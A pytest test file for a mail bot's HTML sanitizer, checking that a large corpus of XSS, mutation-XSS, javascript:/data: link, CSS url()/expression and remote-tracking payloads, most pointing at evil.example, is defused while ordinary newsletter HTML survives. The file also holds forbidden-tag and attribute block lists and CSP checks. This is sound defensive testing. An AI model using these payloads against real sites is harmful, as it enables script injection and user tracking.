"""bot.web.sanitize: an XSS / remote-content corpus never survives; ordinary mail HTML does."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.web.sanitize import ATTRIBUTES, CSP, TAGS, sanitize_html, text_to_html

CID_PREFIX = "/mail/7/cid/"


def cid_url(content_id: str) -> str:
    return CID_PREFIX + quote(content_id, safe="@")


def clean(html: str) -> str:
    return sanitize_html(html, cid_url=cid_url)


class Collected(HTMLParser):
    """The start tags of an HTML string (tag, {attribute: value}); raises on nothing."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


FORBIDDEN_TAGS = {
    "script", "style", "svg", "math", "iframe", "frame", "object", "embed", "base", "meta",
    "link", "form", "input", "button", "textarea", "select", "video", "audio", "source",
    "picture", "track", "noscript", "template", "xmp", "body", "html", "head", "title",
    "marquee", "details", "area", "map", "applet", "param", "mglyph", "mtext", "animate", "set",
}
LOADING_ATTRIBUTES = {"src", "srcset", "background", "style", "poster", "data", "action",
                      "formaction", "ping", "lowsrc", "dynsrc", "longdesc", "xlink:href"}
NO_SPACE = re.compile(r"[\x00-\x20]+")


def assert_safe(out: str) -> None:
    """The invariants every output holds, whatever went in."""
    lowered = out.lower()
    assert "<script" not in lowered
    for tag in FORBIDDEN_TAGS:
        assert f"<{tag}" not in lowered, tag
    for markup in re.findall(r"<[^<>]*>", out):  # text and attribute values escape < and >
        outside_values = re.sub(r'"[^"]*"|\'[^\']*\'', '""', markup)  # a title may say "onerror="
        assert not re.search(r"\son\w+\s*=", outside_values, re.IGNORECASE), markup
    for tag, attrs in Collected(out).tags:
        assert tag in TAGS and tag not in FORBIDDEN_TAGS, tag
        allowed = ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"]
        if tag == "a":
            allowed = allowed | {"rel", "target"}
        for name, value in attrs.items():
            assert name in allowed, (tag, name)
            assert not name.startswith("on"), (tag, name)
            squashed = NO_SPACE.sub("", value).lower()
            for scheme in ("javascript:", "vbscript:", "data:", "livescript:"):
                assert scheme not in squashed, (tag, name, value)
            if name in LOADING_ATTRIBUTES:
                for remote in ("http:", "https:", "//", "url(", "expression", "@import", "\\"):
                    assert remote not in squashed, (tag, name, value)
        if tag == "img":
            assert attrs.get("src", "").startswith(CID_PREFIX), attrs
        if tag == "a" and "href" in attrs:
            assert re.match(r"(https?|mailto):", attrs["href"], re.IGNORECASE), attrs
        if tag == "a":
            assert attrs["rel"] == "noopener noreferrer nofollow"
            assert attrs["target"] == "_blank"


MGLYPH = ('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;'
          '&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">')

XSS = [
    # script
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="module">import "https://evil.example/m.js"</script>',
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>hello",
    '<div onmouseover="alert(1)">hover</div>',
    "<p OnClIcK=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<img src="cid:logo@x" onerror=alert(1) onload=alert(2)>',
    '<a href="https://ok.example/" onclick="alert(1)" ping="https://evil.example/p">x</a>',
    # javascript: / data: / vbscript: links
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/phish">x</a>',
    '<a href="/relative/path">x</a>',
    '<a href="cid:part1@x">x</a>',
    '<a href="https://ok.example/" target="_top" rel="opener">x</a>',
    # svg / math, including the mXSS payloads
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    MGLYPH,
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    # frames, plugins, document-level tags
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/"></iframe>',
    '<frameset><frame src="https://evil.example/"></frameset>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="X" codebase="https://evil.example/"></applet>',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=p type=password><button>Go</button></form>',
    '<button formaction="https://evil.example/">x</button>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<link rel="dns-prefetch" href="//evil.example">',
    '<link rel="prefetch" href="https://evil.example/">',
    # CSS
    "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example/b)}"
    "</style>",
    '<div style="background-image:url(https://evil.example/x.png)">x</div>',
    "<div style=\"background: url('//evil.example/x.png')\">x</div>",
    '<div style="color:red; background:#fff url(http://evil.example/x.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<p style="color:u\\72l(https://evil.example/)">x</p>',
    '<p style="font-family:x;/**/background:url(https://evil.example/)">x</p>',
    '<p style="behavior:url(x.htc); -moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    "<p style=\"background-image:image-set('https://evil.example/a.png' 1x)\">x</p>",
    "<p style=\"list-style:url(https://evil.example/li.png)\">x</p>",
    '<p style="@import \'https://evil.example/x.css\'">x</p>',
    '<img src="cid:logo@x" style="background:url(https://evil.example/)">',
    # remote images and other loading attributes
    '<img src="http://evil.example/pixel.gif">',
    '<img src="https://evil.example/pixel.gif" alt="Tracker">',
    '<IMG SRC="//evil.example/pixel.gif">',
    '<img src="  https://evil.example/pixel.gif  ">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="javascript:alert(1)">',
    '<img src="/local/path.png">',
    '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
    '<img src="cid:logo@x" srcset="https://evil.example/a.png 2x" lowsrc="https://evil.example/">',
    '<img dynsrc="https://evil.example/x.avi" longdesc="https://evil.example/">',
    '<table background="https://evil.example/bg.png"><tr>'
    '<td background="http://evil.example/td.png">x</td></tr></table>',
    '<body background="https://evil.example/bg.png">x</body>',
    '<div background="//evil.example/bg.png">x</div>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<picture><source srcset="https://evil.example/x.png"><img src="cid:a@x"></picture>',
    '<input type="image" src="https://evil.example/x.png">',
    '<map name=m><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>',
    '<img src="cid:%2F%2Fevil.example" alt="x">',
    # a full document, the way newsletters send it
    "<!DOCTYPE html><html><head><title>Nieuws</title><meta charset=utf-8>"
    "<style>@font-face{src:url(https://evil.example/f.woff)}</style></head>"
    "<body style=\"background:url(https://evil.example/)\"><p>Hallo</p></body></html>",
]


@pytest.mark.parametrize("payload", XSS)
def test_payload_is_defused(payload):
    out = clean(payload)
    assert_safe(out)
    if "<img" not in out:  # stable under a second pass: what we emit parses back the same way
        again, first = Collected(clean(out)), Collected(out)
        assert (again.tags, again.text) == (first.tags, first.text)


@pytest.mark.parametrize(("html", "expected"), [
    ("<p><b>Hallo</b></p>", "<p><b>Hallo</b></p>"),
    ("<p>Beste mevrouw, één café — groet, Zoë</p>", "<p>Beste mevrouw, één café — groet, Zoë</p>"),
    ("<p>caf&eacute; &amp; co &lt;3</p>", "<p>café &amp; co &lt;3</p>"),
    ("<div><i>a</i><u>b</u><em>c</em><strong>d</strong><span>e</span><br></div>",
     "<div><i>a</i><u>b</u><em>c</em><strong>d</strong><span>e</span><br></div>"),
    ("<h1>T</h1><h6>t</h6><hr><blockquote>q</blockquote><pre><code>x = 1</code></pre>",
     "<h1>T</h1><h6>t</h6><hr><blockquote>q</blockquote><pre><code>x = 1</code></pre>"),
    ("<ul><li>een</li></ul><ol start=\"3\"><li>drie</li></ol>",
     "<ul><li>een</li></ul><ol start=\"3\"><li>drie</li></ol>"),
    ('<table border="1" cellpadding="4"><thead><tr><th colspan="2">Kop</th></tr></thead>'
     '<tbody><tr><td>a</td><td bgcolor="#eeeeee">b</td></tr></tbody></table>',
     '<table border="1" cellpadding="4"><thead><tr><th colspan="2">Kop</th></tr></thead>'
     '<tbody><tr><td>a</td><td bgcolor="#eeeeee">b</td></tr></tbody></table>'),
    ("<table><tr><td>zonder tbody</td></tr></table>",
     "<table><tbody><tr><td>zonder tbody</td></tr></tbody></table>"),
    ('<font color="red" face="Arial" size="2">rood</font>',
     '<font color="red" face="Arial" size="2">rood</font>'),
    ('<p style="color: #333; font-weight: bold; position: fixed">x</p>',
     '<p style="color:#333;font-weight:bold">x</p>'),
    ('<p style="color:red; background:url(https://evil.example/)">x</p>',
     '<p style="color:red">x</p>'),
    ('<p class="MsoNormal" id="x" align="center">x</p>', '<p align="center">x</p>'),
    ('<img src="cid:logo@kinderrechten.nl" alt="Logo" width="100">',
     f'<img src="{CID_PREFIX}logo@kinderrechten.nl" alt="Logo" width="100">'),
    ('<img src="CID:%3Cpart1.abc@x%3E">', f'<img src="{CID_PREFIX}part1.abc@x">'),
    ('<img src="https://tracker.example/p.gif" alt="Logo">', "[Logo]"),
    ('<p><img src="https://tracker.example/p.gif" width="1" height="1">tekst</p>', "<p>tekst</p>"),
    ('<a href="https://x.example/"><img src="http://x.example/banner.png" alt="Lees <meer>"></a>',
     '<a href="https://x.example/" target="_blank" rel="noopener noreferrer nofollow">'
     "[Lees &lt;meer&gt;]</a>"),
    ("<html><head><title>T</title><style>p{color:red}</style></head><body>hoi</body></html>",
     "hoi"),
    ("", ""),
    ("gewone tekst", "gewone tekst"),
])
def test_ordinary_mail_html_survives(html, expected):
    out = clean(html)
    assert out == expected
    assert_safe(out)


@pytest.mark.parametrize("href", [
    "https://www.kinderrechten.nl/masterclass?a=1&b=2", "http://example.nl/",
    "mailto:info@kinderrechten.nl", "HTTPS://EXAMPLE.NL/",
])
def test_links_survive_with_rel_and_target(href):
    out = clean(f'<a href="{href}" title="meer">Meer</a>')
    (tag, attrs), = Collected(out).tags
    assert tag == "a"
    assert attrs == {"href": href, "title": "meer", "target": "_blank",
                     "rel": "noopener noreferrer nofollow"}


def test_cid_url_gets_the_bare_content_id():
    seen = []

    def record(content_id):
        seen.append(content_id)
        return "/x"

    sanitize_html('<img src="cid:a%40b"><img src="cid:<c@d>"><img src="cid:">', cid_url=record)
    assert seen == ["a@b", "c@d"]


@pytest.mark.parametrize("result", [
    None, "https://evil.example/x.png", "http://evil.example/", "//evil.example/x",
    "/\\evil.example/x", "javascript:alert(1)", "data:image/png;base64,AAAA", "relative.png",
    "/\t/evil.example", "/a b", "",
])
def test_an_unusable_cid_url_result_drops_the_image(result):
    out = sanitize_html('<p><img src="cid:a@b" alt="Foto">!</p>', cid_url=lambda _cid: result)
    assert out == "<p>[Foto]!</p>"


def test_cid_url_errors_propagate():
    def broken(_cid):
        raise LookupError("no such part")

    with pytest.raises(LookupError):
        sanitize_html('<img src="cid:a@b">', cid_url=broken)


def test_mixed_images_keep_only_the_cid_ones():
    out = clean('<p><img src="cid:a@x" alt="A"> <img src="https://t.example/b" alt="B"> '
                '<img src="cid:c@x"></p>')
    assert out == (f'<p><img src="{CID_PREFIX}a@x" alt="A"> [B] <img src="{CID_PREFIX}c@x"></p>')


@pytest.mark.parametrize(("text", "expected"), [
    ("Hallo", "Hallo"),
    ("regel 1\nregel 2", "regel 1<br>regel 2"),
    ("windows\r\nregels\rmac", "windows<br>regels<br>mac"),
    ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ('<img src=x onerror="alert(1)">', "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"),
    ("zie https://www.kinderrechten.nl/ of mail info@kinderrechten.nl",
     "zie https://www.kinderrechten.nl/ of mail info@kinderrechten.nl"),
    ("a & b 'c'", "a &amp; b &#x27;c&#x27;"),
    ("één café", "één café"),
    ("nul\x00byte", "nul\ufffdbyte"),
    ("", ""),
])
def test_text_to_html(text, expected):
    out = text_to_html(text)
    assert out == expected
    assert [tag for tag, _ in Collected(out).tags] == ["br"] * out.count("<br>")


def csp_directives() -> dict[str, list[str]]:
    directives = {}
    for part in CSP.split(";"):
        name, *values = part.split()
        assert name not in directives
        directives[name] = values
    return directives


def test_csp_refuses_everything_but_own_images_and_inline_style():
    d = csp_directives()
    assert d["default-src"] == ["'none'"]
    assert d["img-src"] == ["'self'"]
    assert d["style-src"] == ["'unsafe-inline'"]
    assert d["base-uri"] == ["'none'"] and d["form-action"] == ["'none'"]
    assert "allow-scripts" not in d["sandbox"] and "allow-same-origin" not in d["sandbox"]
    for name in ("script-src", "font-src", "connect-src", "media-src", "object-src", "frame-src",
                 "child-src", "worker-src", "style-src-elem"):
        assert name not in d  # falls back to default-src 'none'
    for bad in ("*", "http:", "https:", "data:", "blob:", "'unsafe-eval'"):
        assert bad not in CSP.split()


FRAGMENTS = [*XSS, "<p>", "</p>", "<b>", "</b>", "<table>", "<td>", "<a href=\"https://o.nl\">",
             "</a>", "<img src=\"cid:z@x\" alt=\"z\">", '"', "'", "<", ">", "=", "é", "<!--", "-->"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=8))
def test_any_mix_of_the_corpus_is_defused(parts):
    assert_safe(clean("".join(parts)))
